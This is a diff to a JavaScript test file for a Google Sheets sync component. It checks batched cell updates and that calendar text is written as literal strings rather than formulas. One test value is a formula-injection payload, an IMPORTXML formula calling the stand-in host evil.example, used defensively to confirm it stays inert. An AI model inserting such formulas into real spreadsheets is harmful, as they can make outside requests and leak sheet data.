@@ -39,6 +39,29 @@ describe('Google Sheets sink', () => {
     expect(sheetIds(h.book)).toHaveLength(count);
   });
 
+  it('sends one grid read and one batchUpdate of literal cells that asks back only headers and Event IDs', async () => {
+    put('a');
+    await sync();
+    h.book.edit('Interviews', 1, column('Notes'), 'mine');
+    put('a', { summary: 'Final round - Acme' });
+    put('b');
+    h.fake.google.log.length = 0;
+    await sync();
+    const [read, write] = h.fake.google.requests('sheets');
+    expect(read?.query).toMatchObject({ ranges: "'Interviews'", includeGridData: 'true' });
+    const title = column('Title');
+    expect(write?.body).toMatchObject({
+      includeSpreadsheetInResponse: true,
+      responseIncludeGridData: true,
+      responseRanges: ["'Interviews'!1:1", "'Interviews'!A:A"],
+      requests: [
+        { updateCells: { start: { sheetId: 1007, rowIndex: 1, columnIndex: title }, rows: [{ values: [{ userEnteredValue: { stringValue: 'Final round - Acme' } }] }], fields: 'userEnteredValue' } },
+        { updateCells: { start: { sheetId: 1007, rowIndex: 1, columnIndex: column('Event version') }, fields: 'userEnteredValue' } },
+        { appendCells: { sheetId: 1007, fields: 'userEnteredValue' } },
+      ],
+    });
+  });
+
   it('writes calendar text as literal strings, never formulas', async () => {
     put('evil', { summary: '=IMPORTXML("https://evil.example","//a") interview' });
     await sync();
